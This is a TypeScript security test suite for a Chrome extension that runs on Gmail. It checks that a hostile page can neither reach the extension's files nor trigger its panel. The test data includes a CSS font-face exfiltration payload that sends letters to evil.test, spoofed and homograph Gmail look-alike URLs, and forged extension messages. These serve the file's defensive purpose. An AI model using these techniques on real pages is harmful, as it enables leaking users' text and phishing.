import { readdirSync } from 'node:fs';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { clickChip, shownOn, waitForShown } from './overlay.ts';
import { openBrowser, type World } from './world/chromium.ts';

/** What a hostile page can find out about Next Touch, and make it do: nothing. */
let world: World;
let page: Page;
const build = join(import.meta.dirname, '..', '..', '.output', 'chrome-mv3');

beforeAll(async () => {
  world = await openBrowser();
  await world.context.addInitScript(() => {
    const told: unknown[] = [];
    Object.assign(globalThis, { told });
    addEventListener('message', ({ data }) => void told.push(data));
  });
  page = await world.gmail();
  await waitForShown(page, /Amara/, 'row');
});
afterAll(async () => {
  await world.close();
});

describe('a page', () => {
  it('can fetch no file of the extension, nor frame one', async () => {
    const files = readdirSync(build, { recursive: true, encoding: 'utf8' }).filter((file) => /\.\w+$/.test(file));
    expect(files).toContain('panel.html');
    const urls = files.map((file) => `chrome-extension://${world.extensionId}/${file}`);
    const fetched = await page.evaluate(
      async (all) =>
        await Promise.all(
          all.map((url) =>
            fetch(url).then(
              (r) => r.url,
              () => 'refused',
            ),
          ),
        ),
      urls,
    );
    expect(new Set(fetched)).toEqual(new Set(['refused']));
    for (const name of ['popup.html', 'options.html', 'welcome.html', 'panel.html']) {
      expect(await framed(`chrome-extension://${world.extensionId}/${name}`)).not.toContain(name);
    }
  });

  it('hears nothing from it, and is not heard', async () => {
    const before = await shownOn(page);
    await page.evaluate((id) => {
      for (const name of ['page', 'record', 'content']) {
        const started = `${id}:${name}:wxt:content-script-started`;
        document.dispatchEvent(new CustomEvent(started, { detail: { contentScriptName: name } }));
        postMessage({ type: `${id}:wxt:content-script-started`, contentScriptName: name, messageId: '1' }, '*');
      }
      postMessage({ ask: 'openThread' }, '*');
      postMessage({ tell: 'close' }, '*');
    }, world.extensionId);
    // The page hears its own five words and no others.
    await expect.poll(() => page.evaluate(() => (globalThis as unknown as { told: unknown[] }).told.length)).toBe(5);
    expect(await shownOn(page)).toEqual(before);
    await page.evaluate(() => window.driver.back());
    await waitForShown(page, /Amara/, 'row');
  });

  it('cannot open the panel: clicks that no hand made are dropped', async () => {
    await page.evaluate(() => {
      for (const host of document.querySelectorAll<HTMLElement>('[data-next-touch]')) {
        host.click();
        for (const type of ['pointerdown', 'mousedown', 'pointerup', 'mouseup', 'click', 'keydown', 'submit']) {
          host.dispatchEvent(new MouseEvent(type, { bubbles: true, composed: true, clientX: 5, clientY: 5 }));
        }
      }
    });
    // Gmail heard them too and opened a conversation.
    await page.evaluate(() => window.driver.back());
    expect(await page.locator('[data-next-touch="panel"]').count()).toBe(0);
    // Whatever else came of it would be here before the answer to this hand-made click.
    await clickChip(page, 'Four stretch wrappers');
    await world.panelFrame(page);
    expect(await page.locator('[data-next-touch="panel"]').count()).toBe(1);
    const { length } = page.frames().filter((frame) => /panel\.html/.test(frame.url()));
    expect(length).toBe(1);
    await page.keyboard.press('Escape');
  });

  it('sees a closed root without text, and cannot make a chip ask it for letters', async () => {
    const seen = await page.evaluate(() => {
      const hosts = [...document.querySelectorAll<HTMLElement>('[data-next-touch]')];
      return hosts.map((host) => [host.shadowRoot, host.textContent, host.getAttributeNames().join()]);
    });
    expect(new Set(seen.map((host) => JSON.stringify(host)))).toEqual(new Set(['[null,"","data-next-touch"]']));
    await page.evaluate(() => {
      const sheet = new CSSStyleSheet();
      const faces = Array.from(
        'abcdefghijklmnopqrstuvwxyz',
        (letter) =>
          `@font-face { font-family: spy; src: url(https://evil.test/${letter}); unicode-range: U+${letter.codePointAt(0)?.toString(16)}; }`,
      );
      sheet.replaceSync(`${faces.join('')} [data-next-touch] { font-family: spy !important; all: unset; }`);
      document.adoptedStyleSheets = [sheet];
      return document.fonts.ready.then(() => new Promise(requestAnimationFrame));
    });
    expect(world.server.requests.filter(({ host }) => host === 'evil.test')).toEqual([]);
  });

  it('that looks like Gmail gets no script', async () => {
    const addresses = [
      'https://mail.google.com.evil.test/mail/u/0/',
      'https://evil.test/#https://mail.google.com/mail/u/0/',
      'https://evil.test/mail.google.com/',
      'https://xmail.google.com/mail/u/0/',
      'https://mail.google.com@evil.test/mail/u/0/',
      'https://mail.google.com./mail/u/0/',
      'https://xn--mil-8na.google.com/mail/u/0/',
    ];
    expect(await hasScript(page.url())).toBe(true);
    for (const address of addresses) {
      const tab = await world.context.newPage();
      await tab.goto(address);
      expect([address, await hasScript(tab.url())]).toEqual([address, false]);
      await tab.close();
    }
  });

  it('leaves no request of the extension behind, and no complaint', async () => {
    expect(world.server.requests.filter(({ origin }) => origin?.startsWith('chrome-extension:'))).toEqual([]);
    expect(
      (await world.errors()).filter((line) => !/ERR_BLOCKED_BY_CLIENT|404|net::ERR|Denying load/.test(line)),
    ).toEqual([]);
  });
});

/** What the browser makes of a frame with this address. */
async function framed(url: string): Promise<string> {
  await page.evaluate(async (src) => {
    const frame = document.createElement('iframe');
    frame.id = 'framed';
    frame.src = src;
    const loaded = new Promise((resolve) => frame.addEventListener('load', resolve));
    document.body.append(frame);
    await loaded;
  }, url);
  const frame = await (await page.waitForSelector('#framed')).contentFrame();
  const shown = frame?.url() ?? '';
  await page.evaluate(() => document.querySelector('#framed')?.remove());
  return shown;
}

declare const chrome: {
  tabs: {
    query(of: object): Promise<{ id: number; url?: string }[]>;
    sendMessage(tab: number, message: object): Promise<unknown>;
  };
};

/** Does a script of ours hear in the tab that is in front? */
async function hasScript(url: string): Promise<boolean> {
  const worker = await world.worker();
  return await worker.evaluate(async (address) => {
    const tabs = await chrome.tabs.query({});
    // The browser tells the address of Gmail tabs alone; the others are asked all.
    const asked = tabs.filter((tab) =>
      tab.url ? tab.url === address : !address.startsWith('https://mail.google.com/'),
    );
    const answers = await Promise.allSettled(asked.map((tab) => chrome.tabs.sendMessage(tab.id, { tell: 'changed' })));
    return answers.some(({ status }) => status === 'fulfilled');
  }, url);
}
